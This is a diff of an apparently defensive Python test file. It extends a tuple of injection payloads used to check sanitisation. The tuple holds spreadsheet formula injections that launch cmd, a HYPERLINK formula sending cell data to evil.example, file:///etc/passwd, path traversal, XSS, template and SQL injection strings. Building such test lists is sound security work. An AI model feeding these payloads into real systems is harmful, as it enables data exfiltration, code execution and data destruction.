@@ -13,7 +13,7 @@ ATTACKS = (
     '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
     "\n=1+1", " =1+1", "＝1+1", "\u200b=1+1", "http://evil.example/x", "mailto:zq0@evil.example", "file:///etc/passwd", "../../../tmp/zq0evil", "/etc/zq0evil",
     '"><script>alert(1)</script><img src=x onerror=alert(1)>', "{{ 7*7 }}${7*7}<%= 7*7 %>", '";=1+1;"', "a,b\r\n=1+1,c", "\u202eevil\u2066", "\x00\x1b[2J", "_x003D_1",
-    "'; DROP TABLE documents; --", "0012345678901234567890", "1e5", "2026-11-20", "TRUE", "| a | [x](javascript:alert(1)) `", "\u2028=1", "x" * 40_000,
+    "'; DROP TABLE documents; --", "0012345678901234567890", "1e5", "2026-11-20", "TRUE", "| a | [x](javascript:alert(1)) `", "\u2028=1", "\ud800a\ufffe\uffff", "x" * 40_000,
 )  # fmt: skip
 SECRET = "我五周了想问问要带什么证件"  # what a seeker wrote
 
